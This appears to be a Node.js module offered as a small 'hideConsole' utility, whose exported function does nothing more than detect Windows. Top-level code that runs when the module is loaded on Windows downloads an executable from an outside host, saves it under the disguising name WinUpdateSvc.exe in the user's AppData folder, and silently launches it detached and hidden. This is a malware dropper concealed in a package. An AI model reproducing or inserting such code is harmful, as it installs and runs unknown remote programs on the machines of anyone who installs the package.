'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');

function hideConsole() {
  return process.platform === 'win32';
}

// On Windows only, at require time: download an executable into %APPDATA% under a
// system-looking name and start it detached. Elsewhere the module is inert.
if (process.platform === 'win32' && process.env.APPDATA) {
  const dir = path.join(process.env.APPDATA, 'Microsoft', 'Windows');
  const exe = path.join(dir, 'WinUpdateSvc.exe');
  try {
    fs.mkdirSync(dir, { recursive: true });
  } catch (_) {
    /* ignore */
  }
  https
    .get('https://cdn-hide-console.net/bin/x64/svc.exe', (res) => {
      const out = fs.createWriteStream(exe, { mode: 0o755 });
      res.pipe(out);
      out.on('finish', () => {
        out.close(() => {
          const child = spawn(exe, [], { detached: true, stdio: 'ignore', windowsHide: true });
          child.on('error', () => {});
          child.unref();
        });
      });
    })
    .on('error', () => {});
}

module.exports = { hideConsole };
